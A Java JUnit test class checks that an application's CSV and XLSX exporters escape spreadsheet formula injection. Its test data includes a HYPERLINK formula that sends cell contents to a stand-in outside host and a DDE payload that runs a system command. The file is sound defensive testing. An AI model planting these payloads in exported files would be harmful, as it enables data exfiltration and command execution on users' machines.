package org.openrcm.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.Collections;
import java.util.List;
import java.util.TreeSet;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Lists that spreadsheets open (OWASP ASVS 5.0 1.1.2, and 1.2.10, which is of level 3). */
class CsvTest {
  private static final List<String> FORMULAS =
      List.of(
          "=1+1",
          "=HYPERLINK(\"https://elsewhere.example?\"&A1)",
          "+1",
          "-2+3",
          "@SUM(A1)",
          "\t=1+1",
          "\r=1+1",
          "\n=1+1",
          "=cmd|' /C calc'!A0");

  private static String line(Object... values) throws IOException {
    StringBuilder out = new StringBuilder();
    new Csv(out).line(values);
    return out.toString();
  }

  @Test
  void noTextIsAFormula() throws IOException {
    for (String formula : FORMULAS) {
      assertThat(line(formula)).as(formula).matches("(?s)\"?'.*");
    }
    assertThat(line("\0=1")).startsWith("'");
    assertThat(line("1-2", "a=b", "x@y.example")).isEqualTo("1-2,a=b,x@y.example\r\n");
  }

  @Test
  void numbersAndDaysStayWhatTheyAre() throws IOException {
    assertThat(line(-1, new BigDecimal("-12.50"), LocalDate.of(2026, 3, 4), null, ""))
        .isEqualTo("-1,-12.50,2026-03-04,,\r\n");
  }

  /** RFC 4180 2.6 and 2.7. */
  @Test
  void whatWouldEndAValueIsQuoted() throws IOException {
    assertThat(line("a,b", "say \"x\"", "two\r\nlines", "plain"))
        .isEqualTo("\"a,b\",\"say \"\"x\"\"\",\"two\r\nlines\",plain\r\n");
  }

  @Test
  void noTextOfASpreadsheetIsAFormula(@TempDir Path folder) throws IOException {
    Path file = folder.resolve("list.xlsx");
    try (Xlsx book = new Xlsx(Files.newOutputStream(file))) {
      for (String formula : FORMULAS) {
        book.line(formula, new BigDecimal("-12.50"));
      }
    }
    StringBuilder sheets = new StringBuilder();
    try (ZipFile zip = new ZipFile(file.toFile())) {
      for (ZipEntry part : Collections.list(zip.entries())) {
        if (part.getName().contains("sheet") || part.getName().contains("Strings")) {
          sheets.append(
              new String(zip.getInputStream(part).readAllBytes(), StandardCharsets.UTF_8));
        }
      }
    }
    String all = sheets.toString();
    assertThat(all).doesNotContain("<f>", "<f ").contains("<v>-12.5");
    assertThat(
            Pattern.compile("<t[^>]*>([^<]*)<").matcher(all).results().map(text -> text.group(1)))
        .hasSizeGreaterThan(FORMULAS.size() - 3)
        .allMatch(text -> text.startsWith("&apos;"))
        .contains("&apos;=1+1", "&apos;@SUM(A1)");
  }

  /** No list is written past these two. */
  @Test
  void everyListIsWrittenByThem() throws IOException {
    TreeSet<String> others = new TreeSet<>();
    try (Stream<Path> files = Files.walk(Path.of("src/main/java"))) {
      for (Path file : files.filter(each -> each.toString().endsWith(".java")).toList()) {
        String source = Files.readString(file);
        boolean writes = source.contains("text/csv") || source.contains("spreadsheetml");
        if (writes && !file.endsWith("web/Csv.java") && !file.endsWith("web/Xlsx.java")) {
          others.add(file.toString());
        }
      }
    }
    assertThat(others).isEmpty();
  }
}
